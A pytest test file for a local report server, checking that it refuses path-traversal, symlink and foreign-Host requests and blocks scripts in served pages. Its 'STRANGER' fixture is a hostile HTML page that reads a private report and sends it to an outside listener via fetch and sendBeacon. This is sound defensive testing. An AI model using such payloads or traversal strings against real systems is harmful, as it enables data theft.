"""`bench ui`: what it serves and to whom, when a page is written anew, and that an open page keeps what was opened."""

from __future__ import annotations

import base64
import fcntl
import hashlib
import http.client
import json
import os
import re
import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from harness.cli.report import announce_page, write
from harness.records import SweepRecord
from harness.shelves.ui.cli import ADDRESS, Renewal, Server
from reports.page.templating import shipped_scripts
from reports.report import Report
from tests.harness.cli.conftest import Bench, bench
from tests.reports.page.browser import run_chromium
from tests.reports.synthetic import write_sweep

__all__ = ["bench"]

SECRET = "a secret"
PAGE = "/question/report/index.html"


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A home with one run, beside a secret to which links of the home lead."""
    around = tmp_path_factory.mktemp("around")
    home = around / "runs"
    write_sweep(home / "question", {"base": 0.0, "up": 3.0}, seeds=2, changes={("up", 1): {"state": "pending"}})
    report = home / "question" / "report"
    report.mkdir()
    (report / "index.html").write_text("<html><body><main>numbers</main><script>ours()</script></body></html>")
    (report / "data.csv").write_text("arm\nbase\n")
    for hidden in (around / "secret.json", home / ".hidden.json", home / ".git" / "config.json", home / "mlflow.db"):
        hidden.parent.mkdir(exist_ok=True)
        hidden.write_text(SECRET)
    (home / "link.json").symlink_to(around / "secret.json")
    (home / "around").symlink_to(around)
    (home / "to_hidden.json").symlink_to(home / ".hidden.json")
    return home


@contextmanager
def serving(home: Path) -> Iterator[Server]:
    with Server(home, 0) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
        thread.start()
        try:
            yield server
        finally:
            server.shutdown()
            thread.join()


@pytest.fixture(scope="module")
def server(home: Path) -> Iterator[Server]:
    with serving(home) as server:
        server.renewal.look = lambda name: None  # type: ignore[method-assign]
        yield server


Ask = Callable[..., http.client.HTTPResponse]


@pytest.fixture
def ask(server: Server) -> Iterator[Ask]:
    connections = []

    def ask(path: str, method: str = "GET", **headers: str) -> http.client.HTTPResponse:
        connections.append(http.client.HTTPConnection(ADDRESS, server.server_port, timeout=10))
        connections[-1].putrequest(method, path, skip_host="Host" in headers)
        for name, value in headers.items():
            connections[-1].putheader(name.replace("_", "-"), value)
        connections[-1].endheaders()
        return connections[-1].getresponse()

    yield ask
    for connection in connections:
        connection.close()


def test_it_listens_to_this_machine_only(server: Server) -> None:
    assert server.server_address[0] == "127.0.0.1"


def test_the_runs_and_their_pages(ask: Ask) -> None:
    runs = ask("/")
    text = runs.read().decode()
    assert (runs.status, f'href="{PAGE[1:]}"' in text) == (200, True)
    assert "3/4" in text and '<script src="/live.js"' in text
    page = ask(PAGE).read().decode()
    assert re.search(r'numbers.*<script src="/live.js" data-version="\w+"></script></body>', page)
    assert ask("/question/report/data.csv").read() == b"arm\nbase\n"
    assert b"benchPage" in ask("/live.js").read()


@pytest.mark.parametrize(
    "path",
    [
        *("/../secret.json", "/%2e%2e/secret.json", "/question/../../secret.json", "/..%2fsecret.json"),
        *("/link.json", "/around/secret.json", "/to_hidden.json", "/.hidden.json", "/.git/config.json"),
        *(
            "/question/%2e%2e/.hidden.json",
            "//secret.json",
            "/mlflow.db",
            "/question",
            "/question/report",
            "/a%00.json",
        ),
        *("/..%5csecret.json", f"/{'a' * 5000}.json", "/../report/index.html", "/around/report/index.html"),
    ],
)
def test_nothing_else_is_served(ask: Ask, path: str) -> None:
    answer = ask(path)
    assert answer.status == 404
    assert SECRET not in answer.read().decode()


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(
    parts=st.lists(
        st.sampled_from(
            [
                *(".", "..", "", "runs", "secret.json", "link.json", "around", ".git", "config.json", "question"),
                *("report", "index.html", "to_hidden.json", "mlflow.db", "\0", "~", "question/..", "sweep.json"),
            ]
        ),
        max_size=6,
    )
)
def test_whatever_is_asked_for_lies_in_the_home(server: Server, home: Path, parts: list[str]) -> None:
    found = server.file_at("/" + "/".join(parts))
    assert found is None or (found.is_relative_to(home) and found.read_text() != SECRET)


@pytest.mark.parametrize(
    "host", ["evil.example", "localhost.evil.example", "127.0.0.1.nip.io", "evil@localhost:80", ""]
)
def test_a_name_that_is_not_of_this_machine_is_refused(ask: Ask, host: str) -> None:
    """A page from elsewhere may point its own name here, and the browser would let it read the answer."""
    answer = ask("/", Host=host)
    assert (answer.status, b"question" in answer.read()) == (421, False)


@pytest.mark.parametrize("host", ["localhost", "localhost:9000", "127.0.0.1:1", "[::1]:80", "LOCALHOST"])
def test_names_of_this_machine_are_answered(ask: Ask, host: str) -> None:
    assert ask("/", Host=host).status == 200


@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND"])
def test_it_only_reads(ask: Ask, home: Path, method: str) -> None:
    before = {path: path.stat().st_mtime_ns for path in home.rglob("*")}
    assert ask(PAGE, method).status == 501
    assert {path: path.stat().st_mtime_ns for path in home.rglob("*")} == before


def test_head_sends_no_body_and_a_known_version_no_page(ask: Ask) -> None:
    head = ask(PAGE, "HEAD")
    assert (head.status, head.read()) == (200, b"")
    again = ask(PAGE, If_None_Match=head.headers["ETag"])
    assert (again.status, again.read()) == (304, b"")
    assert ask(PAGE, If_None_Match='"another"').status == 200


def test_only_the_scripts_of_a_page_may_run_in_it(ask: Ask, home: Path) -> None:
    for path in (PAGE, "/", "/nowhere"):
        assert ask(path).headers["X-Content-Type-Options"] == "nosniff"
    policy = ask(PAGE).headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy and "frame-ancestors 'none'" in policy
    (scripts,) = re.findall(r"script-src ([^;]+);", policy)
    shipped = [base64.b64encode(hashlib.sha256(one.encode()).digest()).decode() for one in shipped_scripts()]
    assert scripts.split() == ["'self'", *(f"'sha256-{one}'" for one in shipped)], "not ours(), which the page holds"
    assert "connect-src 'none'" in policy and "sandbox allow-scripts" in policy
    file = ask("/question/report/data.csv").headers["Content-Security-Policy"]
    assert "script-src 'none'; sandbox" in file and "allow-scripts" not in file
    (home / "question" / "report" / "x.svg").write_text("<svg/>")
    assert ask("/question/report/x.svg").headers["Content-Disposition"] == "attachment"


@pytest.mark.parametrize(
    ("script", "status"),
    [
        ('benchSamples("index",{"a":[1,"\\u003c"]});\n', 200),
        ('benchSamples("index",{"a":fetch("/")});\n', 404),
        ('benchSamples("index",[1]);fetch("/");\n', 404),
        ('benchSamples("index",[1]);\nfetch("/")\n', 404),
        ("fetch('/')", 404),
    ],
)
def test_a_script_of_a_run_is_served_only_if_it_is_data(ask: Ask, home: Path, script: str, status: int) -> None:
    (home / "question" / "report" / "index.js").write_text(script)
    assert ask("/question/report/index.js").status == status


def test_a_page_in_another_encoding_runs_nothing(ask: Ask, home: Path) -> None:
    """Its bytes say one thing to us and another to the browser."""
    (home / "question" / "report" / "utf16.html").write_text("<script>1</script>", encoding="utf-16")
    policy = ask("/question/report/utf16.html").headers["Content-Security-Policy"]
    assert "script-src 'none'; sandbox" in policy and "allow-scripts" not in policy


def test_a_page_that_is_not_written_yet_says_how_far_its_run_is(tmp_path: Path) -> None:
    write_sweep(tmp_path / "young", {"base": 0.0}, seeds=2, changes={("base", 0): {"state": "pending"}})
    with serving(tmp_path) as server:
        server.renewal.look = lambda name: None  # type: ignore[method-assign]
        connection = http.client.HTTPConnection(ADDRESS, server.server_port, timeout=10)
        connection.request("GET", "/young/report/index.html")
        text = connection.getresponse().read().decode()
        connection.close()
    assert "young" in text and "1/2" in text and "live.js" in text


def test_a_page_is_written_anew_when_its_records_are_newer(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    sweep = write_sweep(tmp_path / "question", {"base": 0.0}, seeds=2, changes={("base", 1): {"state": "running"}})
    written: list[str] = []
    done = threading.Event()

    def write(renewal: Renewal, name: str) -> None:
        written.append(name)
        # A record that comes while the page is written is older than the page, and not on it.
        os.utime(sweep.cells[1].path / "status.json", ns=(2_000 * 10**9, 2_000 * 10**9)) if len(written) == 1 else None
        page = sweep.path / "report" / "report.json"
        page.parent.mkdir(exist_ok=True)
        page.write_text("{}")
        renewal._writing.release()
        done.set()

    monkeypatch.setattr(Renewal, "_write", write)
    for path in sweep.path.rglob("*"):
        os.utime(path, ns=(1_000 * 10**9, 1_000 * 10**9))
    renewal = Renewal(tmp_path)

    def look() -> int:
        done.clear()
        renewal.look("question")
        done.wait(0.3)
        return len(written)

    assert [look(), look(), look()] == [1, 2, 2]
    assert Renewal(tmp_path, began_ns=0)._due(sweep.path) is None, "a page that is newer than all records is left alone"
    os.utime(sweep.path / "report" / "report.json", ns=(10**9, 10**9))
    assert Renewal(tmp_path, began_ns=0)._due(sweep.path) is not None
    assert Renewal(tmp_path)._due(sweep.path) is None, "so is that of a run at rest, as after copying a home"
    (sweep.cells[0].path / "status.json").write_text('{"state": "pending"}')
    assert renewal._due(sweep.path) is None, "no cell is done"


def test_a_page_that_was_begun_earlier_never_replaces_a_later_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sweep = write_sweep(tmp_path / "question", {"base": 0.0}, seeds=1)
    seen: list[str] = []

    def write_report(read: SweepRecord, folder: Path, *_: object) -> Report:
        assert (folder / "samples.html").is_file(), "the page links to it"
        seen.append(read.question)
        return Report()

    monkeypatch.setattr("reports.page.write_report", write_report)
    with (sweep.path / ".report.lock").open("a") as earlier:  # somebody writes the page
        fcntl.flock(earlier, fcntl.LOCK_EX)
        later = threading.Thread(target=write, args=(sweep.path,))
        later.start()
        time.sleep(0.2)
        assert seen == []
        sweep.model_copy(update={"question": "What was asked meanwhile?"}).write()
    later.join()
    assert seen == ["What was asked meanwhile?"]


def test_a_run_says_at_its_start_where_its_page_will_be(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    sweep = write_sweep(tmp_path / "question", {"base": 0.0}, seeds=1)
    announce_page(sweep.path)
    assert str(sweep.path / "report" / "index.html") in capsys.readouterr().err
    assert "question" in (tmp_path / "index.html").read_text()
    (tmp_path / "index.html").write_text("<h1>my site</h1>")
    announce_page(sweep.path)
    assert "index.html" in capsys.readouterr().err
    assert (tmp_path / "index.html").read_text() == "<h1>my site</h1>"


@pytest.mark.slow
def test_looking_at_a_page_has_it_written(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write_sweep(tmp_path / "question", {"base": 0.0, "up": 3.0}, seeds=2)
    renewal = Renewal(tmp_path)
    renewal.look("question")
    deadline_s = time.monotonic() + 120
    while renewal._writing.locked() and time.monotonic() < deadline_s:
        time.sleep(0.1)
    assert json.loads((tmp_path / "question" / "report" / "report.json").read_text())["contrasts"]
    assert renewal._not_before_s > time.monotonic(), "the machine is there to train"


def test_the_verb_refuses_what_it_cannot_serve(bench: Bench, tmp_path: Path) -> None:
    bench("ui").refused("shelves.ui.no_runs_in_folder")
    with serving(tmp_path) as taken:
        busy = bench("ui", "--home", tmp_path, "--port", taken.server_port)
    busy.refused("shelves.ui.port_not_usable")


_PROBE = """<script>
addEventListener("load", () => {
  const $ = selector => document.querySelector(selector);
  const fold = [...document.querySelectorAll("main details")].pop();
  document.querySelectorAll("main details").forEach(one => { one.open = true; });
  $(".arms button[value=up]").click();
  $(".over button:nth-of-type(2)").click();
  $("main table .sort").click();
  const figure = [...document.querySelectorAll("figure")].filter(one => one.getClientRects().length).pop();
  figure.scrollIntoView();
  fold.querySelector("summary").focus({preventScroll: true});
  const top = figure.getBoundingClientRect().top, before = scrollY, name = figure.id;
  const state = () => ({
    news: document.getElementById("news") !== null,
    fold: [...document.querySelectorAll("main details")].pop().open,
    folds: document.querySelectorAll("main details[open]").length,
    alone: benchPage.isolated(),
    faded: document.querySelector("svg .faded") !== null,
    over: $(".over button[aria-pressed=true]").value,
    shown: [...document.querySelectorAll(".wide[data-over]:not([hidden])")].map(one => one.dataset.over).join(),
    sorted: $("main table [aria-sort]")?.getAttribute("aria-sort"),
    focus: document.activeElement.tagName,
    moved: Math.round(Math.abs(document.getElementById(name).getBoundingClientRect().top - top)),
    buttons: document.querySelectorAll(".arms").length,
  });
  const first = state();
  const timer = setInterval(() => {
    if (!document.getElementById("news")) return;
    clearInterval(timer);
    const said = {before: first, after: state(), scrolled: scrollY - before, top: before};
    const seen = {id: "seen", textContent: JSON.stringify(said)};
    document.body.append(Object.assign(document.createElement("pre"), seen));
  }, 50);
});
</script></body>"""


STRANGER = """<html><head>
<meta http-equiv="refresh" content="0; url={away}/refresh"><META HTTP-EQUIV=refresh CONTENT="1;{away}/refresh">
<base href="{away}/base/"><link rel="preconnect" href="{away}"><link rel="stylesheet" href="{away}/style.css">
<link rel="prefetch" href="{away}/prefetch"><link rel="icon" href="{away}/icon">
<style>@import "{away}/import.css"; body {{ background: url({away}/background) }}</style>
<script src="{away}/script.js"></script><script src="samples/index.js"></script><script src="/evil.js"></script>
</head><body onload="document.title = 'ran'"><main>numbers</main>
<img src="{away}/img" onerror="document.title = 'ran'"><iframe src="{away}/frame"></iframe>
<iframe srcdoc="<script>parent.document.title = 'ran'</script>"></iframe>
<object data="{away}/object"></object><embed src="{away}/embed">
<video src="{away}/video" poster="{away}/poster"></video>
<form action="{away}/form"><input name="a" autofocus onfocus="this.form.submit()"></form>
<svg onload="document.title = 'ran'"><image href="{away}/image"/><script>document.title = 'ran'</script></svg>
<script>
document.title = "ran";
fetch("/private/report/index.html").then(answer => answer.text()).then(text => {{
  fetch("{away}/fetch?" + text.length);
  new Image().src = "{away}/beacon";
  navigator.sendBeacon("{away}/beacon", text);
  location = "{away}/location";
}});
document.forms[0].submit();
</script></body></html>"""


@pytest.mark.slow
def test_a_copied_page_runs_nothing_and_sends_nothing(chromium: str, tmp_path: Path) -> None:
    home, reached = tmp_path / "runs", []
    for name in ("copied", "private"):
        write_sweep(home / name, {"base": 0.0}, seeds=2)
    with socket.create_server((ADDRESS, 0)) as listener, serving(home) as server:
        away = f"http://{ADDRESS}:{listener.getsockname()[1]}"
        report = home / "copied" / "report"
        evil = {report / name: STRANGER for name in ("index.html", "samples.html", "deep/page.html")}
        evil |= dict.fromkeys((report / "samples" / "index.js", home / "evil.js"), "document.title = 'ran';")
        for path, content in evil.items():
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(content.format(away=away))

        def answer() -> None:
            with suppress(OSError):
                while True:
                    connection, _ = listener.accept()
                    reached.append(connection.recv(200))
                    connection.close()

        threading.Thread(target=answer, daemon=True).start()
        server.renewal.look = lambda name: None  # type: ignore[method-assign]
        for page in ("report/index.html", "report/samples.html", "report/deep/page.html"):
            dom = in_browser(chromium, tmp_path, f"{server.address}copied/{page}", 5000)
            assert "numbers" in dom and "<title>ran" not in dom, page
    assert reached == []


@pytest.mark.slow
def test_pages_of_samples_work(chromium: str, tmp_path: Path) -> None:
    sweep = write_sweep(tmp_path / "runs" / "question", {"base": 0.0, "up": 3.0}, seeds=2)
    write(sweep.path)
    with serving(tmp_path / "runs") as server:
        for page in ("samples.html", "first_samples.html"):
            dom = in_browser(chromium, tmp_path, f"{server.address}question/report/{page}#arm=up&seed=1", 5000)
            first = dom.partition('<article class="sample">')[2]
            assert first.startswith("<h2>seed 1, ") and "<b>up</b>" in first and "<b>base</b>" in first, page


def in_browser(chromium: str, scratch: Path, address: str, budget_ms: int) -> str:
    """The page at an address of this machine, as it is after so long."""
    return run_chromium(
        chromium,
        scratch,
        f"--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE {ADDRESS}",
        "--window-size=1200,900",
        f"--virtual-time-budget={budget_ms}",
        "--dump-dom",
        address,
    )


@pytest.mark.slow
def test_an_open_page_changes_in_place(chromium: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (probe,) = re.findall(r"<script>(.*)</script>", _PROBE, re.DOTALL)
    ours = shipped_scripts()
    monkeypatch.setattr("reports.page.templating.shipped_scripts", lambda: [*ours, probe])
    sweep = write_sweep(tmp_path / "runs" / "question", {"base": 0.0, "up": 3.0, "down": -3.0}, seeds=3)
    write(sweep.path)
    page = sweep.path / "report" / "index.html"
    html = page.read_text()
    page.write_text(html.replace("</body>", _PROBE))
    asked: list[str] = []

    def look(name: str) -> None:
        asked.append(name)
        if len(asked) == 2:  # the page is open
            news = '<p id="news" style="height: 300px">news</p></h2>'
            page.write_text(html.replace("Verdict</h2>", f"Verdict{news}", 1))

    with serving(tmp_path / "runs") as server:
        server.renewal.look = look  # type: ignore[method-assign]
        dom = in_browser(chromium, tmp_path, f"{server.address}question/report/index.html", 20000)
    seen = re.search(r'<pre id="seen">(.+?)</pre>', dom)
    assert seen is not None, dom[-600:]
    found = json.loads(seen[1])
    assert found["before"] | {"news": True} == found["after"], "nothing that was chosen is lost"
    assert found["before"]["alone"] == "up" and found["before"]["over"] == "training step" and found["before"]["fold"]
    assert found["before"]["sorted"] == "descending" and found["before"]["focus"] == "SUMMARY"
    assert found["scrolled"] > 250, "what is new lies above, and what is read stays where it is"
